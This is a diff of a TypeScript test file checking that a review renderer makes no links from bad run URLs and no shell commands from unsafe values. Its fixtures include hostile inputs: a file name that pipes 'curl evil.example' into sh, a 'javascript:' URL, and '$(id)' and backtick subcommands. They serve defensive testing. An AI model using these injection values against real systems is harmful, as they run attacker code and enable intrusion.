@@ -76,20 +76,18 @@ describe("renderReview", () => {
     const text = review(makeReport(undefined, { origin: makeOrigin() }));
     expect(text).toContain("[the run](https://github.com/octo-org/models/actions/runs/3)");
     expect(text).toContain(
-      `git fetch origin pull/7/head\ngit checkout ${"2".repeat(40)}\nsac check --device cpu source.sac --`,
+      `git fetch origin pull/7/head\ngit checkout ${"2".repeat(40)}\nsac check source.sac -- 'models/*.onnx'\n`,
     );
     expect(text).toContain(`SHA-256 <code>${"b".repeat(64)}</code>`);
     expect(text).toContain("Ran on: cpu (asked for: cpu)");
   });
 
-  it("makes no link of what is no run's address, and no command of what a shell would act on", () => {
+  it("makes no link of what is no run's address, and checks nothing out that is no commit", () => {
     const results = [makeResult({ path: "a;curl evil.example|sh.onnx" })];
     for (const runUrl of ["https://evil.example/", "javascript:alert(1)", "https://a/b/c/actions/runs/3) [x](y"]) {
       const text = renderReview(makeReport(results, { origin: makeOrigin({ runUrl, commit: "$(id)", head: "`id`" }) }));
       expect(text).not.toContain("](");
-      expect(text.slice(text.indexOf("```sh"))).toMatch(
-        /^```sh\nsac check --device cpu source\.sac -- MODEL\.onnx --html/,
-      );
+      expect(text).toContain("```sh\nsac check source.sac");
     }
   });
 
